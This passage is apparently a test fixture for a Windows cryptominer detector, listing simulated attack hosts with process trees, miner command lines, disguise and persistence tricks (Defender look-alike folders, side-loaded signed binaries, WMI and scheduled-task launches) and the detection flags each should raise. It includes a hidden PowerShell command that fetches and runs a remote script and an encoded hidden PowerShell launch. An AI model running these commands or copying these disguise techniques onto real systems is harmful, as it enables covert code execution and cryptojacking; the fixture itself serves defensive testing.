        sockets: [{ remote: '203.0.113.77', port: 443 }],
        binary: unsigned('OneDriveStandaloneUpdater.exe'),
        expect: [
          'SUSTAINED_CPU',
          'LAUNCH_SCHEDULED_TASK',
          'VENDOR_NAME_MISPLACED',
          'UNSIGNED_BINARY',
          'EXTERNAL_PERSISTENT',
          'USER_WRITABLE_PATH',
        ],
      },
    ],
    { sharedSchedule: true },
  ),
  host(
    'taskeng-throttled',
    'attack',
    'A throttled miner (--max-cpu-usage 30) under taskeng.exe on an older build',
    [
      {
        pid: 8700,
        ppid: 8690,
        name: 'winhlp.exe',
        path: 'C:\\Users\\dave\\AppData\\Local\\winhlp\\winhlp.exe',
        cmdline: 'winhlp.exe --max-cpu-usage 30 -o pool.example.net:5555',
        user: 'dave',
        cpu: 30,
        start: 0,
        sockets: [{ remote: '192.0.2.200', port: 5555 }],
        binary: unsigned(''),
        expect: [
          'SUSTAINED_CPU',
          'LAUNCH_SCHEDULED_TASK',
          'MINER_CMDLINE',
          'UNSIGNED_BINARY',
          'POOL_CONNECTION',
          'USER_WRITABLE_PATH',
        ],
      },
      {
        pid: 8690,
        ppid: 1100,
        name: 'taskeng.exe',
        path: `${SYS32}\\taskeng.exe`,
        cmdline: 'taskeng.exe {5E5A2D53-2D9E-4B7E-A1A5-91C1A7A7D1B0} S-1-5-21-1004:DAVE\\dave:Interactive:[1]',
        user: 'dave',
        cpu: 0.1,
        start: -10,
      },
    ],
    { user: 'dave' },
  ),
  host(
    'powershell-exited',
    'attack',
    'PowerShell starts a miner in Temp and exits a minute later',
    [
      {
        pid: 8800,
        ppid: 8790,
        name: 'WindowsUpdate.exe',
        path: 'C:\\Users\\erin\\AppData\\Local\\Temp\\WindowsUpdate.exe',
        cmdline: 'WindowsUpdate.exe',
        user: 'erin',
        cpu: 93,
        start: 30,
        sockets: [{ remote: '45.9.20.1', port: 5555 }],
        binary: unsigned(''),
        expect: ['SUSTAINED_CPU', 'LAUNCH_POWERSHELL', 'UNSIGNED_BINARY', 'POOL_CONNECTION', 'USER_WRITABLE_PATH'],
      },
      {
        pid: 8790,
        ppid: 3000,
        name: 'powershell.exe',
        path: `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
        cmdline: 'powershell -nop -w hidden -c "iex (iwr http://203.0.113.7/a.ps1)"',
        user: 'erin',
        cpu: 5,
        start: 0,
        end: 90,
        binary: signedBy(MS, 'PowerShell.EXE'),
      },
    ],
    { user: 'erin' },
  ),
  host('wmi-scrcons', 'attack', 'A WMI script consumer (scrcons.exe) starts a miner from ProgramData', [
    {
      pid: 8900,
      ppid: 8890,
      name: 'dllhst.exe',
      path: 'C:\\ProgramData\\dllhst\\dllhst.exe',
      cmdline: 'C:\\ProgramData\\dllhst\\dllhst.exe',
      cpu: 91,
      start: 0,
      sockets: [{ remote: '45.9.20.1', port: 7777 }],
      binary: unsigned(''),
      expect: ['SUSTAINED_CPU', 'LAUNCH_WMI', 'UNSIGNED_BINARY', 'POOL_CONNECTION', 'USER_WRITABLE_PATH'],
    },
    {
      pid: 8890,
      ppid: 900,
      name: 'scrcons.exe',
      path: `${SYS32}\\wbem\\scrcons.exe`,
      cmdline: 'C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding',
      cpu: 0.2,
      start: -5,
    },
  ]),
  host(
    'system32-service',
    'attack',
    'An unsigned miner installed as a service binary in System32',
    [
      {
        pid: 9000,
        ppid: 700,
        name: 'wuaucltsvc.exe',
        path: `${SYS32}\\wuaucltsvc.exe`,
        cmdline: 'C:\\Windows\\System32\\wuaucltsvc.exe',
        cpu: 96,
        sockets: [POOL],
        binary: unsigned(''),
        expect: ['SUSTAINED_CPU', 'UNSIGNED_SYSTEM_PATH', 'POOL_CONNECTION'],
      },
    ],
    { services: [{ name: 'wuauserv2', pid: 9000, path: `${SYS32}\\wuaucltsvc.exe` }] },
  ),
  host(
    'renamed-apphost',
    'attack',
    'A .NET miner apphost whose OriginalFilename names another program, run by taskhostw',
    [
      {
        pid: 9100,
        ppid: 3120,
        name: 'svchelper.exe',
        path: 'C:\\Users\\alice\\AppData\\Local\\Microsoft\\WindowsApps\\svchelper.exe',
        cmdline: 'svchelper.exe',
        user: 'alice',
        cpu: 89,
        start: 0,
        sockets: [{ remote: '45.9.20.1', port: 4444 }],
        binary: unsigned('NBMiner.dll'),
        expect: [
          'SUSTAINED_CPU',
          'LAUNCH_SCHEDULED_TASK',
          'RENAMED',
          'UNSIGNED_BINARY',
          'POOL_CONNECTION',
          'USER_WRITABLE_PATH',
        ],
      },
    ],
  ),
  host(
    'task-working-dir',
    'attack',
    'A task whose action starts with the working directory runs a stratum miner',
    [
      {
        pid: 9200,
        ppid: 1100,
        name: 'sysmon64.exe',
        path: 'C:\\Users\\frank\\AppData\\Local\\Packages\\sysmon\\sysmon64.exe',
        cmdline: 'sysmon64.exe -o stratum+tcp://198.51.100.9:3333 -u 4A',
        user: 'frank',
        cpu: 95,
        start: 0,
        sockets: [{ remote: '198.51.100.9', port: 3333 }],
        binary: unsigned(''),
        expect: [
          'SUSTAINED_CPU',
          'LAUNCH_SCHEDULED_TASK',
          'MINER_CMDLINE',
          'UNSIGNED_BINARY',
          'POOL_CONNECTION',
          'USER_WRITABLE_PATH',
        ],
      },
    ],
    {
      user: 'frank',
      tasks: [
        {
          name: 'SysmonHealth',
          path: '\\Microsoft\\SysmonHealth',
          action:
            'C:\\Users\\frank\\AppData\\Local\\Packages\\sysmon\\ C:\\Users\\frank\\AppData\\Local\\Packages\\sysmon\\sysmon64.exe -o stratum+tcp://198.51.100.9:3333 -u 4A',
        },
      ],
    },
  ),
  host('extension-name', 'attack', "A miner borrowing the extension's file name outside the osquery folder", [
    {
      pid: 9300,
      ppid: 3000,
      name: 'an1489.ext.exe',
      path: 'C:\\Users\\Public\\osquery\\an1489.ext.exe',
      cmdline: 'C:\\Users\\Public\\osquery\\an1489.ext.exe',
      user: 'alice',
      cpu: 94,
      start: 0,
      sockets: [POOL],
      binary: unsigned('xmrig.exe'),
      expect: ['SUSTAINED_CPU', 'RENAMED', 'UNSIGNED_BINARY', 'POOL_CONNECTION', 'USER_WRITABLE_PATH'],
    },
  ]),
  host('defender-lookalike', 'attack', 'An unsigned MsMpEng.exe in a look-alike Defender folder under ProgramData', [
    {
      pid: 9400,
      ppid: 700,
      name: 'MsMpEng.exe',
      path: 'C:\\ProgramData\\Microsoft\\Windows Defender Advanced\\MsMpEng.exe',
      cmdline: '"C:\\ProgramData\\Microsoft\\Windows Defender Advanced\\MsMpEng.exe"',
      cpu: 90,
      start: 0,
      sockets: [POOL],
      binary: unsigned('MsMpEng.exe'),
      expect: ['SUSTAINED_CPU', 'VENDOR_NAME_MISPLACED', 'UNSIGNED_BINARY', 'POOL_CONNECTION', 'USER_WRITABLE_PATH'],
    },
  ]),
  host('downloads-donate', 'attack', 'xmrig with --donate-level from Downloads, started from the desktop', [
    {
      pid: 9500,
      ppid: 3000,
      name: 'xmrig.exe',
      path: 'C:\\Users\\alice\\Downloads\\xmrig-6.22.2\\xmrig.exe',
      cmdline: 'xmrig.exe --donate-level 1 -o pool.supportxmr.com:3333',
      user: 'alice',
      cpu: 98,
      start: 0,
      sockets: [POOL],
      binary: unsigned('xmrig.exe'),
      expect: ['SUSTAINED_CPU', 'UNSIGNED_BINARY', 'POOL_CONNECTION', 'MINER_CMDLINE', 'USER_WRITABLE_PATH'],
    },
  ]),
  // Siblings: a signed vendor binary out of its folder (DLL side-loading), a signed script host,
  // an unsigned vendor name in ProgramData, a signature Windows does not trust.
  host(
    'signed-sideload',
    'attack',
    "Google's signed GoogleUpdate.exe copied to C:\\Users\\Public with a miner DLL beside it, run by a task",
    [
      {
        pid: 9600,
        ppid: 3120,
        name: 'GoogleUpdate.exe',
        path: 'C:\\Users\\Public\\Libraries\\GoogleUpdate.exe',
        cmdline: 'C:\\Users\\Public\\Libraries\\GoogleUpdate.exe /c',
        cpu: 92,
        start: 0,
        sockets: [POOL],
        binary: signedBy('Google LLC', 'GoogleUpdate.exe'),
        expect: [
          'SUSTAINED_CPU',
          'LAUNCH_SCHEDULED_TASK',
          'VENDOR_NAME_MISPLACED',
          'POOL_CONNECTION',
          'USER_WRITABLE_PATH',
        ],
      },
    ],
  ),
  host(
    'powershell-fileless-task',
    'attack',
    'A fileless PowerShell miner run by Schedule in a shared netsvcs svchost, holding a 443 connection',
    [
      {
        pid: 9700,
        ppid: 1100,
        name: 'powershell.exe',
        path: `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`,
        cmdline: 'powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
        cpu: 85,
        start: 0,
        sockets: [{ remote: '198.51.100.44', port: 443 }],
        binary: signedBy(MS, 'PowerShell.EXE'),
        expect: ['SUSTAINED_CPU', 'LAUNCH_SCHEDULED_TASK', 'EXTERNAL_PERSISTENT'],
      },
    ],
    { sharedSchedule: true },
  ),
  host(
    'edge-update-programdata',
    'attack',
    'An unsigned MicrosoftEdgeUpdate.exe under ProgramData started through WMI',
    [
      {
        pid: 9800,
        ppid: 2100,
        name: 'MicrosoftEdgeUpdate.exe',
        path: 'C:\\ProgramData\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe',
        cmdline: 'C:\\ProgramData\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe /svc',
        cpu: 88,
        start: 0,
        sockets: [{ remote: '203.0.113.90', port: 443 }],
        binary: unsigned('MicrosoftEdgeUpdate.exe'),
        expect: [
          'SUSTAINED_CPU',
          'LAUNCH_WMI',
          'VENDOR_NAME_MISPLACED',
          'UNSIGNED_BINARY',
          'EXTERNAL_PERSISTENT',
          'USER_WRITABLE_PATH',
        ],
      },
    ],
  ),
  host(
    'self-signed-appdata',
    'attack',
    'A miner signed with a self-made certificate (Windows: untrusted) under AppData\\Local\\Programs',
    [
      {
        pid: 9900,
        ppid: 3000,
        name: 'nodehelper.exe',
        path: 'C:\\Users\\alice\\AppData\\Local\\Programs\\NodeHelper\\nodehelper.exe',
        cmdline: 'nodehelper.exe',
        user: 'alice',
        cpu: 90,
        start: 0,
        sockets: [{ remote: '45.9.20.1', port: 3333 }],
        binary: { original: 'nodehelper.exe', signature: 'untrusted', signer: 'NodeHelper Software' },
        expect: ['SUSTAINED_CPU', 'SIGNATURE_UNTRUSTED', 'POOL_CONNECTION', 'USER_WRITABLE_PATH'],
      },
    ],
  ),
];
